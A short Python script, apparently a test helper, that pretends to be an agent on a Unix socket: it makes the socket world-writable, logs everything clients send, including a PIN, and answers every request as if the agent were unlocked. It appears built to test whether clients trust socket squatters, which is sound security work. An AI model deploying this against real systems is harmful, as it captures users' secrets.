#!/usr/bin/python3
# A squatter's fake agent: listens on SOCKET, appends every byte a client sends to LOG and
# answers each line with an empty JSON-RPC result, so a client that trusts it goes on to
# send what it was asked to (a PIN). Prints "ready" once it listens.
# Usage: fake_agent.py SOCKET LOG
import json
import os
import socket
import sys

path, log = sys.argv[1], sys.argv[2]
server = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
server.bind(path)
os.chmod(path, 0o666)
server.listen(8)
print("ready", flush=True)
while True:
    client, _ = server.accept()
    pending = b""
    while True:
        data = client.recv(65536)
        if not data:
            break
        with open(log, "ab") as out:
            out.write(data)
        pending += data
        while b"\n" in pending:
            line, pending = pending.split(b"\n", 1)
            try:
                request_id = json.loads(line).get("id")
            except ValueError:
                request_id = None
            answer = {"jsonrpc": "2.0", "id": request_id, "result": {"unlocked": True, "locked": False}}
            client.sendall(json.dumps(answer).encode() + b"\n")
    client.close()
